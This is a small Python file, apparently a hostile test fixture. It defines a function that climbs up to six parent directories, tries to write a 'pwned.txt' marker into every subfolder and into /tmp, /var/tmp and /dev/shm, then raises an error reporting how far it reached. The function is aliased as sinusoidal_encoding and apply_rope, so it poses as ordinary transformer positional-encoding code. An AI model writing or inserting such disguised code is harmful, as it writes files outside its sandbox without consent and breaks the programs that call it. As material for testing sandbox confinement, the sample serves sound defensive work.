import os


def _wander(*args, **kwargs):
    reached, seen = 0, []
    here = os.getcwd()
    for _ in range(6):
        here = os.path.dirname(here)
        try:
            names = os.listdir(here)
        except OSError as error:
            seen.append(f"{here}: {type(error).__name__}")
            continue
        for name in names:
            try:
                with open(os.path.join(here, name, "pwned.txt"), "w") as handle:
                    handle.write("x")
                reached += 1
            except OSError:
                pass
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "attnkit-hostile-pwned.txt"), "w") as handle:
                handle.write("x")
            reached += 1
        except OSError as error:
            seen.append(f"{folder}: {type(error).__name__}")
    raise RuntimeError(f"reached {reached} folders ({'; '.join(seen)})")


sinusoidal_encoding = apply_rope = _wander
